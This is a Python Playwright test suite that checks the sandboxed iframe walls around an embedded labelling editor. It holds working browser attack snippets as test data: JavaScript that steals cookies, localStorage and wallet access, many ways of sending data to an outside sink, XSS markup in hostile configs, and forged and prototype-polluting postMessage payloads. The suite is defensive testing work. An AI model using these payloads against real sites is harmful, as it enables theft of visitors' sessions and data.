"""The walls of the editor's frame: what a hostile config, or code that took the frame over, cannot reach.

Each attack runs twice: in the frame as it is served, and in a control page without walls, where it must
succeed. So an attack that has ceased to be one fails the test as surely as a wall that has fallen.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from html import escape
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Frame, Page, expect

from labelshare.errors import LabelError
from labelshare.protocol.labels import SINGLE_CHOICE, read_form
from tests.web.browser import Visitor
from tests.web.editor import (
    CONFIG,
    CONTENT,
    Elsewhere,
    choice_place,
    elsewhere,
    expect_answered,
    opens_editor,
    ready_frame,
)
from tests.web.place import WebPlace

pytestmark = [pytest.mark.anvil, pytest.mark.slow]

Visitors = Callable[..., Visitor]
SETTLE = 400
SECRET = "the visitor's secret"
# A page like ours, with nothing in between: what it holds is what an attack is after.
OPEN = f"""<!doctype html><title>page</title><script>
localStorage.setItem("secret", {SECRET!r}); document.cookie = "session=" + encodeURIComponent({SECRET!r});
window.ethereum = {{request: async () => "signed"}};
</script><h1>page</h1><iframe src="/inner"></iframe>"""
INNER = "<!doctype html><title>inner</title><body></body>"

# Code within the frame, which knows the address SINK, and what it returns where it succeeds.
TAKES: dict[str, tuple[str, str]] = {
    "store": ("parent.localStorage.getItem('secret')", SECRET),
    "own-store": ("localStorage.getItem('secret')", SECRET),
    "cookie": ("decodeURIComponent(document.cookie)", f"session={SECRET}"),
    "wallet": ("parent.ethereum.request({method: 'eth_requestAccounts'})", "signed"),
    "page": ("parent.document.title = 'taken'", "taken"),
    "cover": (
        """(() => {
            const over = parent.document.createElement("div");
            over.style.cssText = "position: fixed; inset: 0";
            parent.document.body.append(over);
            return parent.document.elementFromPoint(5, 5) === over;
        })()""",
        "True",
    ),
}
# Code after which the server elsewhere has been asked for the attack's own path.
ADD = """const add = (tag, given) =>
    document.body.appendChild(Object.assign(document.createElement(tag), given));"""
SENDS: dict[str, str] = {
    "fetch": "fetch(SINK, {mode: 'no-cors'})",
    "beacon": "navigator.sendBeacon(SINK, 'x')",
    "image": "new Image().src = SINK",
    "script": "add('script', {src: SINK})",
    "style": "add('link', {rel: 'stylesheet', href: SINK})",
    "import": "add('style', {textContent: `@import '${SINK}'`})",
    "font": "new FontFace('f', `url(${SINK})`).load()",
    "frame": "add('iframe', {src: SINK})",
    "object": "add('object', {data: SINK})",
    "prefetch": "add('link', {rel: 'prefetch', href: SINK})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: SINK})",
    "websocket": "new WebSocket(SINK.replace('http', 'ws'))",
    "events": "new EventSource(SINK)",
    "form": "add('form', {action: SINK, method: 'post'}).submit()",
    "popup": "window.open(SINK)",
    "script-link": "add('a', {href: `javascript:void fetch('${SINK}', {mode: 'no-cors'})`}).click()",
    "itself": "location.href = SINK",
    "top": "window.open(SINK, '_top')",
    "top-link": "add('a', {href: SINK, target: '_top'}).click()",
}


@pytest.fixture(scope="module")
def place(
    anvil_program: Path, tmp_path_factory: pytest.TempPathFactory, built_pages: Path
) -> Iterator[WebPlace]:
    """One campaign for all: nothing here is handed in."""
    if not (built_pages / "editor" / "frame.html").is_file():
        pytest.skip("the web app is built without Label Studio's editor")
    with choice_place(anvil_program, tmp_path_factory.mktemp("place")) as made:
        yield made


class Attacked(Visitor):
    """A visitor whose page is attacked, so that the browser reports what it refused."""

    def close(self) -> None:
        self.faults.clear()
        super().close()


@pytest.fixture
def attacked(chromium: Browser, place: WebPlace) -> Iterator[Attacked]:
    """A visitor with something to lose, in the editor."""
    her = Attacked(chromium, place.url)
    her.context.add_cookies([{"name": "session", "value": SECRET, "url": place.url}])
    yield her
    her.close()


def prize(page: Page) -> None:
    """What the control page has, in ours."""
    page.evaluate(
        "secret => { localStorage.setItem('secret', secret);"
        " window.ethereum = {request: async () => 'signed'}; }",
        SECRET,
    )


def taken(frame: Frame, code: str) -> str:
    """What an attack gets; what stops it, in words."""
    asked = (
        f"async () => {{ try {{ return await ({code}); }} catch (fault) {{ return 'stopped: ' + fault; }} }}"
    )
    return str(frame.evaluate(asked))


def control(browser: Browser, there: Elsewhere) -> tuple[Page, Frame]:
    page = browser.new_context().new_page()
    page.goto(there.url + "/open")
    inner = page.locator("iframe").element_handle().content_frame()
    assert inner is not None
    return page, inner


def test_code_in_the_frame_takes_nothing(chromium: Browser, place: WebPlace, attacked: Attacked) -> None:
    with elsewhere(open=OPEN, inner=INNER) as there:
        page, inner = control(chromium, there)
        for name, (code, prey) in TAKES.items():
            assert taken(inner, code) == prey, f"{name} is no attack any more"
        page.context.close()
    frame = opens_editor(attacked, place)
    prize(attacked.page)
    expect(attacked.page).to_have_title(re.compile("answered"))
    title = attacked.page.title()
    for name, (code, prey) in TAKES.items():
        got = taken(frame, code)
        assert got != prey, f"{name} got {got}"
        assert SECRET not in got
    assert attacked.page.title() == title


def test_code_in_the_frame_sends_nothing(chromium: Browser, place: WebPlace, attacked: Attacked) -> None:
    with elsewhere(open=OPEN, inner=INNER) as there:
        for name, code in SENDS.items():
            page, inner = control(chromium, there)
            _send(inner, there, f"control-{name}", code)
            _wait_asked(page, there, f"/control-{name}")
            page.context.close()
        frame = opens_editor(attacked, place)
        url = attacked.page.url
        for name, code in SENDS.items():
            if attacked.page.locator("iframe[data-ready=true]").count() == 0:
                attacked.go(f"/tasks/{place.campaign}/label")  # the attack before brought the frame down
            frame = ready_frame(attacked)
            _send(frame, there, name, code)
            attacked.page.wait_for_timeout(SETTLE)
            assert f"/{name}" not in there.asked, f"{name} went out"
            assert attacked.page.url == url
            assert len(attacked.context.pages) == 1
        assert attacked.origins() - {there.url} <= {place.url, place.node}


def _send(frame: Frame, there: Elsewhere, name: str, code: str) -> None:
    sink = json.dumps(f"{there.url}/{name}")
    frame.evaluate(f"() => {{ const SINK = {sink}; {ADD} setTimeout(() => {{ {code}; }}, 0); }}")


def _wait_asked(page: Page, there: Elsewhere, path: str) -> None:
    for _ in range(50):
        if path in there.asked:
            return
        page.wait_for_timeout(100)
    raise AssertionError(f"{path}: this is no attack any more")


# ------------------------------------------------------------------------- hostile configs


def _markup(sink: str) -> dict[str, str]:
    """HTML that an editor without care might take from a config."""
    return {
        "onerror": f"<img src=x: onerror=\"new Image().src='{sink}/onerror'\">",
        "picture": f'<img src="{sink}/picture">',
        "background": f'<b style="background: url({sink}/background)">b</b>',
        "embedded": f'<iframe src="{sink}/embedded"></iframe>',
        "inserted": f"<style>@import '{sink}/inserted-style'; * {{ position: fixed; inset: 0 }}</style>",
    }


@pytest.mark.usefixtures("place")  # which knows whether the editor is there
def test_a_hostile_config_is_shown_and_harms_nobody(
    anvil_program: Path, tmp_path: Path, chromium: Browser
) -> None:
    with elsewhere(open=OPEN) as there:
        parts = _markup(there.url)
        page = chromium.new_context().new_page()
        page.goto(there.url + "/open")
        page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", "".join(parts.values()))
        for path in ("/onerror", "/picture", "/background", "/embedded", "/inserted-style"):
            _wait_asked(page, there, path)
        page.context.close()
        there.asked.clear()

        html = escape("".join(parts.values()), quote=True)
        link = escape('<a href="javascript:parent.document.title=1" target="_top">link</a>', quote=True)
        config = (
            f'<View onload="parent.document.title=1" style="position: fixed; inset: 0; z-index: 99999">'
            f'<Style>@import "{there.url}/style-tag"; '
            f"* {{ background: url({there.url}/style-background) }} "
            f"@font-face {{ font-family: x; src: url({there.url}/style-font) }} "
            f"* {{ font-family: x }}</Style>"
            f'<Header value="{html}"/><Image name="image" value="{there.url}/image-tag"/>'
            f'<Text name="text" value="$text"/><Choices name="mood" toName="text">'
            f'<Choice value="good" html="{html}" hint="{html}"/><Choice value="bad" html="{link}"/>'
            f"</Choices></View>"
        )
        content = ("".join(parts.values()) + "<script>parent.document.title=1</script>").encode()
        with choice_place(anvil_program, tmp_path, config, content) as hostile:
            her = Attacked(chromium, hostile.url)
            frame = opens_editor(her, hostile)
            her.page.wait_for_timeout(3 * SETTLE)
            assert there.asked == []
            assert her.page.title().startswith("0 of 4")
            # Whatever its styles say, the frame covers its own place alone.
            above = her.page.get_by_role("button", name="Use the plain form")
            expect(above).to_be_visible()
            her.page.locator("iframe").focus()
            her.page.keyboard.press("2")
            her.page.keyboard.press("Enter")
            expect_answered(her, 1)
            assert frame.evaluate("document.title") == "Editor"
            ready_frame(her)
            above.click()
            expect(her.page.locator("iframe")).to_have_count(0)
            assert there.asked == []
            her.close()


HOSTILE_TAGS = {
    "script": "<script>alert(1)</script>",
    "form": '<form action="https://elsewhere.example"/>',
    "namespace": '<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>',
    "second-control": '<TextArea name="t" toName="text"/>',
    "huge": f"<Header value='{'x' * 300_000}'/>",
}


@pytest.mark.parametrize("name", HOSTILE_TAGS)
def test_no_campaign_has_such_a_config(name: str) -> None:
    read_form(SINGLE_CHOICE, CONFIG)
    with pytest.raises(LabelError):
        read_form(SINGLE_CHOICE, CONFIG.replace("<Header", HOSTILE_TAGS[name] + "<Header"))


# ------------------------------------------------------------------------- hostile messages

CAPTURE = """() => { const say = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (text) {
  // Libraries in the frame have ports of their own, which say nothing.
  if (typeof text === 'string') window.stolen ??= {port: this, ...JSON.parse(text)};
  return say.call(this, text);
}; }"""


def _captures(her: Visitor, frame: Frame) -> dict[str, Any]:
    """Takes the port and its nonce, as code that took the frame over would; what right messages hold."""
    frame.evaluate(CAPTURE)
    her.page.locator("iframe").focus()
    her.page.keyboard.press("Escape")
    frame.wait_for_function("window.stolen")
    found: dict[str, Any] = frame.evaluate("({nonce: stolen.nonce, item: stolen.item})")
    return found


def _right(stolen: dict[str, Any], choice: str = "sad") -> dict[str, Any]:
    region = {"from_name": "mood", "to_name": "text", "type": "choices", "value": {"choices": [choice]}}
    return {"kind": "submit", "nonce": stolen["nonce"], "item": stolen["item"], "result": [region]}


def test_only_a_right_message_by_the_port_counts(place: WebPlace, attacked: Attacked) -> None:
    frame = opens_editor(attacked, place)
    stolen = _captures(attacked, frame)
    good = _right(stolen)
    text = json.dumps(good)
    wrong = (
        json.dumps(good | {"nonce": "0" * 32}),
        json.dumps({key: value for key, value in good.items() if key != "nonce"}),
        json.dumps(good | {"item": stolen["item"] + 1}),
        json.dumps(good | {"item": -1}),
        json.dumps(good | {"more": 1}),
        json.dumps(good | {"kind": "sign"}),
        json.dumps(good | {"result": [{"padding": "x" * 70_000, **good["result"][0]}]}),
        json.dumps(good | {"result": [good["result"][0]] * 2}),
        json.dumps(_right(stolen, "constructor")),
        json.dumps(_right(stolen, "__proto__")),
        text.replace('"choices": [', '"__proto__": {"polluted": 1}, "choices": ['),
        text.replace('"choices": [', '"constructor": {"prototype": {"polluted": 1}}, "choices": ['),
        "[" * 30_000,
    )
    for each in wrong:
        frame.evaluate("text => stolen.port.postMessage(text)", each)
        attacked.page.wait_for_timeout(SETTLE // 2)
        expect_answered(attacked, 0)
    frame.evaluate("message => stolen.port.postMessage(message)", good)  # an object, and no text
    frame.evaluate("text => parent.postMessage(text, '*')", text)  # to the window rather than by the port
    attacked.page.evaluate("text => window.postMessage(text, '*')", text)
    attacked.page.evaluate(
        "() => document.body.append(Object.assign(document.createElement('iframe'),"
        " {src: '/editor/frame.html', name: 'other'}))"
    )
    other = attacked.page.locator("iframe[name=other]").element_handle().content_frame()
    assert other is not None
    other.wait_for_url("**/frame.html")
    other.evaluate("text => parent.postMessage(text, '*')", text)
    attacked.page.wait_for_timeout(SETTLE)
    expect_answered(attacked, 0)
    assert attacked.page.evaluate("({}).polluted") is None
    frame.evaluate("text => stolen.port.postMessage(text)", text)  # the same by the port: an answer
    expect_answered(attacked, 1)


@pytest.mark.parametrize("way", ["stolen.port.postMessage(text)", "parent.postMessage(text, '*')"])
def test_a_flood_brings_the_frame_down_and_the_page_lives(
    place: WebPlace, attacked: Attacked, way: str
) -> None:
    frame = opens_editor(attacked, place)
    stolen = _captures(attacked, frame)
    text = json.dumps(_right(stolen) | {"nonce": "none"})
    frame.evaluate(f"text => {{ for (let at = 0; at < 10; at += 1) {way}; }}", text)
    attacked.page.wait_for_timeout(SETTLE)
    expect(attacked.page.locator("iframe")).to_have_count(1)  # few are borne
    frame.evaluate(
        f"text => {{ setInterval(() => {{ for (let at = 0; at < 500; at += 1) {way}; }}, 0); }}", text
    )
    attacked.sees("it sent far more messages than an editor has reason to")
    expect(attacked.page.locator("iframe")).to_have_count(0)
    attacked.page.get_by_role("button", name="Use the plain form").first.click()
    attacked.sees(CONTENT)
    attacked.page.keyboard.press("1")
    attacked.page.keyboard.press("Enter")
    expect_answered(attacked, 1)


def test_the_frame_is_walled_by_its_own_policy(place: WebPlace, attacked: Attacked) -> None:
    attacked.page.goto(f"{place.url}/editor/frame.html")  # not even alone has it an origin
    assert attacked.page.evaluate("self.origin") == "null"
    response = attacked.context.request.get(f"{place.url}/editor/frame.html")
    policy = response.headers["content-security-policy"]
    for rule in ("sandbox allow-scripts;", "default-src 'none'", "connect-src 'none'", "form-action 'none'"):
        assert rule in policy
    assert "allow-same-origin" not in policy
